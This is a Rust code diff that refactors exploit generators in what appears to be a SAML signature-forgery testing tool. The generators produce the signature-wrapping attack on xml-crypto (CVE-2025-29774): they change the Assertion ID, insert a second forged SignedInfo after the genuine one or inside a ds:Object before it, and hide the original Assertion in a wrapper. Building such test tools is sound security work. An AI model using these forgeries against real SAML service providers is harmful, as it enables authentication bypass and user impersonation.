@@ -78,26 +78,7 @@ pub fn digest_value_smuggled(f: &Forge) -> Result<Forged, Skip> {
 /// A second SignedInfo referencing the forged Assertion (new ID) after the original one; the
 /// original Assertion kept byte-exact in a wrapper (xml-crypto CVE-2025-29774).
 pub fn multiple_signed_info(f: &Forge) -> Result<Forged, Skip> {
-    with_forged_digest(
-        f,
-        &|p| {
-            let sig = p.need_assertion_sig()?;
-            let si = signed_info(sig).ok_or_else(|| Skip::NotApplicable("no SignedInfo".into()))?;
-            let evil = evil_id(p.assertion_id());
-            let second = second_signed_info(p.doc, si, &evil)?;
-            let id = crate::bytes::attr_value(p.assertion, "ID")
-                .ok_or_else(|| Skip::NotApplicable("the Assertion has no ID".into()))?;
-            Ok(vec![
-                (id, evil),
-                insert(si.range().end, second),
-                insert(
-                    before_end_tag(p.doc.src, p.root),
-                    format!("<a>{}</a>", p.doc.outer(p.assertion)),
-                ),
-            ])
-        },
-        &|p| evil_id(p.assertion_id()),
-    )
+    second_signed_info_at(f, SecondSignedInfo::After)
 }
 
 /// As [`multiple_signed_info`], the second SignedInfo inside a `ds:Object` *before* the
@@ -106,6 +87,21 @@ pub fn multiple_signed_info(f: &Forge) -> Result<Forged, Skip> {
 /// SP that trusts the first Reference reads it (@boxyhq/saml20 < 1.10.0 on xml-crypto 6.0.0
 /// and its 6.0.1 fork, CVE-2025-29774).
 pub fn multiple_signed_info_first(f: &Forge) -> Result<Forged, Skip> {
+    second_signed_info_at(f, SecondSignedInfo::InObjectBefore)
+}
+
+/// Where the forged second SignedInfo goes.
+#[derive(Clone, Copy)]
+enum SecondSignedInfo {
+    /// Right after the genuine one.
+    After,
+    /// In a `ds:Object` right before the genuine one.
+    InObjectBefore,
+}
+
+/// The Assertion's ID changed, a second SignedInfo referencing it placed at `place`, the
+/// original Assertion kept byte-exact in a wrapper at the end of the Response.
+fn second_signed_info_at(f: &Forge, place: SecondSignedInfo) -> Result<Forged, Skip> {
     with_forged_digest(
         f,
         &|p| {
@@ -113,17 +109,23 @@ pub fn multiple_signed_info_first(f: &Forge) -> Result<Forged, Skip> {
             let si = signed_info(sig).ok_or_else(|| Skip::NotApplicable("no SignedInfo".into()))?;
             let evil = evil_id(p.assertion_id());
             let second = second_signed_info(p.doc, si, &evil)?;
-            let prefix = qualified_name(p.doc.src, sig)
-                .strip_suffix("Signature")
-                .unwrap_or_default();
+            let placed = match place {
+                SecondSignedInfo::After => insert(si.range().end, second),
+                SecondSignedInfo::InObjectBefore => {
+                    let prefix = qualified_name(p.doc.src, sig)
+                        .strip_suffix("Signature")
+                        .unwrap_or_default();
+                    insert(
+                        si.range().start,
+                        format!("<{prefix}Object>{second}</{prefix}Object>"),
+                    )
+                }
+            };
             let id = crate::bytes::attr_value(p.assertion, "ID")
                 .ok_or_else(|| Skip::NotApplicable("the Assertion has no ID".into()))?;
             Ok(vec![
                 (id, evil),
-                insert(
-                    si.range().start,
-                    format!("<{prefix}Object>{second}</{prefix}Object>"),
-                ),
+                placed,
                 insert(
                     before_end_tag(p.doc.src, p.root),
                     format!("<a>{}</a>", p.doc.outer(p.assertion)),
